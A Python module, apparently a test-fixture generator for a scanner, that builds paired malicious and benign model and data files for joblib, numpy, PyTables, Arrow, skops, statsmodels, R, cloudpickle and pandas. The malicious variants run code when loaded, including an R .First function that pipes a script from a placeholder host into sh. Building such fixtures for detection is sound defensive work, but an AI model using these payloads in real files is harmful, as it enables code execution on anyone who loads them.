"""Python libraries' own files: what joblib, numpy, pandas, PyTables, Arrow, skops, statsmodels, cloudpickle and R do when they open them."""
import io
import json
import pickle as stock
import struct

from assembly import call, glob, pickle, val

from .parts import CODE, HOST, gz, scratch, zipped

FAMILY = "libraries"


class Late:
    """Pickles as a call of timeit.timeit on source text."""

    def __reduce__(self):
        import timeit

        return timeit.timeit, (CODE, "pass")


def joblib_objects(values):
    import joblib
    import numpy

    array = numpy.empty(len(values), dtype=object)
    array[:] = values
    with scratch():
        joblib.dump({"classes": array, "coef": numpy.arange(6.0)}, "m.joblib", compress=("xz", 3))
        return open("m.joblib", "rb").read()


def npz(values):
    import numpy

    rows = numpy.zeros(len(values), dtype=[("id", "<i4"), ("box", "<f4", (4,)), ("meta", "O")])
    rows["meta"] = values
    out = io.BytesIO()
    numpy.savez(out, boxes=numpy.arange(8.0), rows=rows)
    return out.getvalue()


def hdf(value):
    """A PyTables file: an attribute that is text and ends like a pickle is unpickled when it is looked at."""
    import h5py
    import numpy

    with scratch():
        with h5py.File("m.h5", "w") as f:
            f.attrs.update({"CLASS": numpy.bytes_(b"GROUP"), "PYTABLES_FORMAT_VERSION": numpy.bytes_(b"2.1"), "TITLE": numpy.bytes_(b""), "VERSION": numpy.bytes_(b"1.0")})
            d = f.create_dataset("weights", data=numpy.arange(8.0), track_times=False)
            d.attrs.update({"CLASS": numpy.bytes_(b"ARRAY"), "VERSION": numpy.bytes_(b"2.4"), "TITLE": numpy.bytes_(b""), "columns": numpy.bytes_(value)})
        return open("m.h5", "rb").read()


def arrow(name, meta):
    import pyarrow as pa

    field = pa.field("embedding", pa.list_(pa.float32(), 4), metadata={"ARROW:extension:name": name, "ARROW:extension:metadata": meta})
    table = pa.table([pa.array([[0.1, 0.2, 0.3, 0.4]], pa.list_(pa.float32(), 4))], schema=pa.schema([field]))
    sink = io.BytesIO()
    with pa.ipc.new_file(sink, table.schema) as w:
        w.write_table(table)
    return sink.getvalue()


def skops(hostile):
    text = lambda x: {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": json.dumps(x), "is_json": True}  # noqa: E731
    function = {"__class__": "system", "__module__": "posix", "__loader__": "FunctionNode"}
    attrs = {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": [function, text("touch marker")]}
    node = {"__class__": "call", "__module__": "operator", "__loader__": "OperatorFuncNode", "attrs": attrs}
    if not hostile:
        node = {"__class__": "log1p", "__module__": "numpy", "__loader__": "FunctionNode"}
    keys = {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": [{"__class__": "str", "__module__": "builtins", "__loader__": "TypeNode"}]}
    root = {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {"clean": node}, "key_types": keys, "protocol": 2, "_skops_version": "0.13.0"}
    count = iter(range(1, 99))

    def number(n):
        if isinstance(n, dict):
            if "__class__" in n:
                n["__id__"] = next(count)
            for v in n.values():
                number(v)
        elif isinstance(n, list):
            for v in n:
                number(v)

    number(root)
    return zipped({"schema.json": json.dumps(root, indent=2).encode()})


def formula(text):
    """The data part of a fitted formula model, as statsmodels pickles it: the formula is evaluated again when it is loaded."""
    import numpy
    import pandas
    import statsmodels.formula.api as smf

    frame = pandas.DataFrame({"y": numpy.arange(8.0) ** 1.1, "x": numpy.arange(8.0)})
    data = smf.ols("y ~ x", frame).fit().model.data
    data.formula = text
    return stock.dumps(data, 4)


class RWriter:
    """R's serialisation, version 2, XDR."""

    def __init__(self):
        self.known = {}

    def char(self, x):
        return struct.pack(">II", 0x00040009, len(x)) + x.encode()

    def sym(self, x):
        if x in self.known:
            return struct.pack(">I", self.known[x] << 8 | 255)
        self.known[x] = len(self.known) + 1
        return struct.pack(">I", 1) + self.char(x)

    def pairs(self, items):
        """(tag or None, writer) pairs as a pairlist."""
        out = b""
        for tag, make in items:
            out += struct.pack(">I", 0x402 if tag else 2) + (self.sym(tag) if tag else b"") + make()
        return out + struct.pack(">I", 254)

    def lang(self, name, *args):
        return lambda: struct.pack(">I", 6) + self.sym(name) + self.pairs([(None, a) for a in args])

    def text(self, x):
        return lambda: struct.pack(">II", 16, 1) + self.char(x)

    def real(self, *xs):
        return lambda: struct.pack(">II", 14, len(xs)) + b"".join(struct.pack(">d", x) for x in xs)

    def closure(self, formals, body):
        missing = lambda: struct.pack(">I", 251)  # noqa: E731
        return lambda: struct.pack(">II", 0x403, 253) + self.pairs([(f, missing) for f in formals]) + body()

    def image(self, items):
        return gz(b"RDX2\nX\n" + struct.pack(">III", 2, 0x00040301, 0x00020300) + self.pairs(items))


def rdata(hostile):
    w = RWriter()
    coef = ("coef", w.real(0.5, -1.25, 2.0))
    if hostile:
        body = w.lang("system", w.text(f"curl -s http://{HOST}/r.sh | sh"))
        return w.image([coef, (".First", w.closure([], body))])
    body = w.lang("sum", w.lang("*", lambda: w.sym("x"), lambda: w.sym("coef")))
    return w.image([coef, ("score", w.closure(["x"], body))])


def cloud(hostile):
    import cloudpickle

    space = {}
    act = CODE if hostile else "self.scale = float(self.scale)"
    exec(f"class Scaler:\n    def __init__(self):\n        self.scale = 2.0\n    def __setstate__(self, state):\n        self.__dict__.update(state)\n        {act}\n    def predict(self, x):\n        return [self.scale * v for v in x]\n", {"__name__": "__main__"}, space)
    return cloudpickle.dumps(space["Scaler"](), 4)


def add(out):
    def pair(name, hostile, twin, prove, file, why):
        out.add(FAMILY, name, hostile, twin, prove, file, why)

    pair("joblib-object-array", joblib_objects(["cat", Late()]), joblib_objects(["cat", "dog"]), "joblib", "pipeline.joblib", "joblib reads an array of objects by unpickling a second stream inside the first; the call is only there, under xz.")
    pair("npz-object-field", npz([Late(), "b"]), npz(["a", "b"]), "numpy", "train_rows.npz", "One field of a structured dtype holds objects, so the member is a pickle after the npy header.")
    pair("pytables-attribute", hdf(b"ctimeit\ntimeit\n(S\"" + CODE.encode() + b"\"\ntR."), hdf(stock.dumps(["a", "b", {"x": 1}], 0)), "e11-tables", "features.h5", "PyTables unpickles an attribute that ends like a pickle; it writes lists in the same way.")
    bad = pickle(call(glob("timeit", "timeit"), CODE, "pass"))
    shape = json.dumps({"shape": [2, 2], "permutation": [0, 1]}).encode()
    pair("arrow-extension-pickle", arrow("arrow.py_extension_type", bad), arrow("arrow.fixed_shape_tensor", shape), None, "embeddings.arrow", "CVE-2023-47248: Arrow before 14.0.1 unpickles the metadata of a Python extension type when the schema is read. Written by pyarrow; not run, the one here refuses.")
    pair("skops-operator-call", skops(True), skops(False), "e11-skops", "model.skops", "An operator node is called while it is built: operator.call(posix.system, ...). The twin names a numpy function.")
    lie = "y ~ x + I(x * 0 + len([open('marker','w').close()]))"
    pair("statsmodels-formula", formula(lie), formula("y ~ x"), "pickle", "ols.pkl", "No harmful name is in the pickle: the model's data rebuilds its design from the formula, and a formula is Python.")
    pair("r-first", rdata(True), rdata(False), None, ".RData", "R loads .RData of its folder when it starts and then runs the function .First. Built from R's format; R is not here.")
    pair("cloudpickle-setstate", cloud(True), cloud(False), "pickle", "python_model.pkl", "A class by value whose __setstate__ has a body of byte code: it runs on load.")
    words = "c.sys.modules.get('posix').system('touch marker')"
    import zstandard

    pack = lambda x: zstandard.ZstdCompressor().compress(x)  # noqa: E731
    evil = pickle(val({"ratio": "price / volume", "cache": call(glob("pandas", "eval"), words, "pandas", "python", {"c": glob("pandas", "compat")})}))
    calm = pickle(val({"ratio": "price / volume", "cache": "price * volume.rolling(5).mean()"}))
    pair("pandas-expression", pack(evil), pack(calm), "e11-pandas", "features.pkl.zst", "pandas.eval follows attributes and calls in its text, starting from a module that is handed in. The twin keeps expressions as text.")
